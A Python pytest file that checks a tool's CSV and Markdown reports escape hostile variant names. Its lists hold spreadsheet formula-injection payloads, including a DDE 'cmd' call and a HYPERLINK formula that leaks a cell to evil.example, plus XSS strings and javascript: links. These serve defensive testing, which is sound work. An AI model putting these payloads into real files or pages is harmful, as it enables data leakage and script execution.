"""Faults B and I: names from outside in the reports that are written; each beside names that only look alike."""

from __future__ import annotations

import csv
import io
import re
from functools import lru_cache

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from pytest_inferopt.domain.text import printable
from pytest_inferopt.reporters._markdown_text import inline
from pytest_inferopt.reporters.csv import Csv
from pytest_inferopt.reporters.markdown import Markdown

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttab",
    " =1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1,"click")',
    "-2",
    "--",
]
SPLIT = {"a;=1+1": "a;'=1+1", "a\n=1+1": "a\n'=1+1", "a\t@SUM(1)": "a\t'@SUM(1)"}
HARMLESS = ["a=b", "a-b", "1+1", "user@example.com", "int8 - static", "'quoted'", "n_jobs=-1", "a;b", "a,-1", "Δ=2"]


def variants_in_csv(reports, name):
    """The cells of the column `variant` for a variant of that name."""
    report = reports.report(reports.result(reports.variant(name)))
    rows = csv.DictReader(io.StringIO(Csv().render(report), newline=""), strict=True)
    return {row["variant"] for row in rows} - {"original"}


@pytest.mark.parametrize("name", FORMULAS)
def test_b37_a_name_that_a_spreadsheet_would_run_as_a_formula_is_text_in_csv(reports, name):
    assert variants_in_csv(reports, name) == {f"'{name}"}


@pytest.mark.parametrize(("name", "cell"), SPLIT.items())
def test_b37_a_name_that_becomes_a_formula_where_a_spreadsheet_splits_it_is_text_in_csv(reports, name, cell):
    assert variants_in_csv(reports, name) == {cell}


@pytest.mark.parametrize("name", HARMLESS)
def test_b37_a_name_with_such_a_character_further_in_stays_as_it_is_in_csv(reports, name):
    assert variants_in_csv(reports, name) == {name}


def test_b37_a_negative_number_stays_a_number_in_csv(reports):
    found = reports.result(reports.variant(accuracy=reports.accuracy(-0.25, -1.5)))
    rows = list(csv.DictReader(io.StringIO(Csv().render(reports.report(found)), newline="")))
    assert (rows[-1]["score"], rows[-1]["accuracy_ratio"]) == ("-0.25", "-1.5")


@pytest.mark.parametrize("name", FORMULAS)
def test_b37_no_cell_of_a_csv_report_starts_a_formula_wherever_the_name_stands(reports, name):
    cells = [cell for row in csv.reader(io.StringIO(Csv().render(reports.hostile(name)), newline="")) for cell in row]
    texts = [cell for cell in cells if name in cell]
    assert len(texts) > 20
    assert {cell[0] for cell in texts} == {"'"}


# --- I107: hostile names in Markdown ----------------------------------------------------------------------------

HOSTILE = [
    # links, images, autolinks, definitions
    "[click](http://evil.example)",
    "![img](http://evil.example/x.png)",
    "[![a](http://evil.example/a.png)](http://evil.example)",
    "[1]: http://evil.example",
    "[1]",
    "[x][1]",
    "<http://evil.example>",
    "<a@evil.example>",
    "http://evil.example",
    "https://evil.example/?a=b&c=d",
    "HTTPS://EVIL.EXAMPLE",
    "ftp://evil.example",
    "www.evil.example",
    "see www.evil.example/path, now",
    "mailto:a@evil.example",
    "a.b+c@evil.example",
    "xmpp:a@evil.example/x",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    # mentions, issues, commits
    "@torvalds",
    "thanks @octo-org/team!",
    "(@admin)",
    "#1",
    "fixes #12",
    "GH-12",
    "gh-12,",
    "octo/repo#1",
    "octo/repo@3f9c2e1a7b5d4c6e8f90123456789abcdef01234",
    "3f9c2e1a7b5d4c6e8f90123456789abcdef01234",
    "revert 3f9c2e1.",
    "GHSA-ab12-cd34-ef56",
    "CVE-2021-44228",
    # HTML and entities
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- hidden",
    "</details></td></table>",
    "<details open><summary>x",
    "<br>",
    "a < b > c",
    "&copy; &#64;admin &amp;",
    "<?php ?>",
    "<![CDATA[x]]>",
    # tables, lists, headings and other blocks
    "a|b",
    "|",
    "||a||",
    "a \\| b",
    "a\\",
    "\\|`|\\",
    "a\nb",
    "\n\n# heading",
    "\r\n- item",
    "# heading",
    "- item",
    "+ item",
    "* item",
    "1. item",
    "12) item",
    "> quote",
    "---",
    "===",
    "    code",
    "```",
    "~~~ sh",
    "- [x] done",
    "[!WARNING]",
    # emphasis, code, emoji, footnotes, mathematics
    "*a* **b** _c_ __d__",
    "snake_case_ _and_",
    "~~gone~~ ~gone~",
    "`code`",
    "``` `` `",
    "`",
    "a`b``c```d",
    "\\`",
    ":smile: :+1:",
    "a:smile:b",
    "[^1]",
    "[^1]: note",
    "$x^2$ $$y$$",
    "$`x`$",
    "{{ config }} {% raw %}",
    # what does not print
    "\x1b[31mred\x1b[0m",
    "\u202egnp.exe",
    "zero\u200bwidth\u2060\ufeff",
    "nbsp\xa0here",
    "\ud800",
    "\x00",
    "@\u200badmin",
    # blanks, and very long
    " ",
    "   ",
    " a ",
    "a  b",
    "`  `",
    "x" * 300,
    "@" * 300,
    "`" * 300,
]
PLAIN = [
    "int8-static",
    "fp16 (last layer in float)",
    "model_v2.onnx",
    "f1 ratio 0.9868 ≥ 0.99.",
    "Größe, 模型, نموذج",
    "50 %, 3 of 400 rows",
    "original (n_jobs=-1)",
    "GHOST-12 and a1b2c3 at 12:30",
    "1.5 is no list",
]
# What GitHub's filters look for in the text of a page, outside of code.
# https://docs.github.com/en/get-started/writing-on-github/working-with-advanced-formatting/autolinked-references-and-urls
FILTERS = {
    "mention": r"@[\w-]",
    "issue": r"#\d|\bGH-\d",
    "advisory": r"\b(GHSA|CVE)-\w",
    "commit": r"(?<![\w.])[0-9a-f]{7,40}(?!\w)",
    "emoji": r":(?!\d\d:)[\w+-]+:",
    "address": r"://|\bwww\.|@\w|mailto:\w|xmpp:\w",
    "mathematics": r"\$",
    "footnote": r"\[\^",
}
MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
INERT = {"text", "code_inline"}
PLACES = {"cell": "| a | {} | c |\n|---|---|---|\n| a | {} | c |\n", "item": "- {}\n", "heading": "## {}\n",
          "paragraph": "{}\n", "bold": "x **{}** y\n", "sentence": "before {}: after\n"}  # fmt: skip


@lru_cache(maxsize=16)
def parsed(text):
    return MARKDOWN.parse(text)


def leaves(text):
    """The inline tokens of a document."""
    return [leaf for token in parsed(text) if token.type == "inline" for leaf in token.children]


def blocks(text):
    """The document without what stands in it: its blocks."""
    return [token.type for token in parsed(text)]


def seen_by_filters(text):
    """The text of a document that GitHub's filters walk over: code is none of it."""
    return "\n".join(leaf.content if leaf.type == "text" else " " for leaf in leaves(text))


def found_by_filters(text):
    return {name for name, pattern in FILTERS.items() if re.search(pattern, seen_by_filters(text), re.IGNORECASE)}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("name", HOSTILE + PLAIN)
def test_i107_a_hostile_name_is_shown_as_it_is_and_changes_no_block(name, place):
    frame = PLACES[place]
    text = frame.replace("{}", inline(name, 200))
    assert blocks(text) == blocks(frame.replace("{}", "harmless"))
    shown = "\n".join(leaf.content for leaf in leaves(text))
    expected = "\n".join(leaf.content for leaf in leaves(frame.replace("{}", "\ue000")))
    assert shown.replace("\n", "") == expected.replace("\ue000", printable(name, 200)).replace("\n", "")
    allowed = INERT | ({"strong_open", "strong_close"} if place == "bold" else set())
    assert {leaf.type for leaf in leaves(text)} <= allowed
    assert found_by_filters(text) == set()


@pytest.mark.parametrize("name", PLAIN)
def test_i107_a_harmless_name_needs_no_code(name):
    assert inline(name) == name


def test_i107_the_filters_find_what_they_look_for_in_text_that_is_not_escaped():
    raw = "@user #12 GH-1 CVE-2021-1 3f9c2e1 :smile: www.a.b $x$ [^1]"
    assert found_by_filters(raw) == set(FILTERS)


@given(name=st.text(alphabet=st.sampled_from("ab1 `|\\*_~[]()<>!#@:$^&-+=./w\n\u202e'\"%é,;?{}x"), max_size=30))
@settings(max_examples=300, deadline=None)
def test_i107_no_text_at_all_becomes_markup(name):
    for frame in PLACES.values():
        text = frame.replace("{}", inline(name))
        assert blocks(text) == blocks(frame.replace("{}", "harmless")) or not name
        assert {leaf.type for leaf in leaves(text)} <= INERT | {"strong_open", "strong_close"}
        assert found_by_filters(text) == set()
        assert printable(name, 1000) in "".join(leaf.content for leaf in leaves(text))


@pytest.fixture(scope="module")
def harmless(reports):
    return Markdown().render(reports.hostile("harmless"))


@pytest.mark.parametrize("name", HOSTILE)
def test_i107_a_markdown_report_full_of_a_hostile_name_has_the_blocks_of_a_harmless_one(reports, name, harmless):
    text = Markdown().render(reports.hostile(name))
    assert blocks(text) == blocks(harmless)
    assert {leaf.type for leaf in leaves(text)} <= INERT | {"strong_open", "strong_close"}
    assert found_by_filters(text) == set()
    html = [token.content for token in parsed(text) if token.type == "html_block"]
    assert html == [token.content for token in parsed(harmless) if token.type == "html_block"]
    assert "".join(leaf.content for leaf in leaves(text)).count(printable(name)[:70]) >= 40
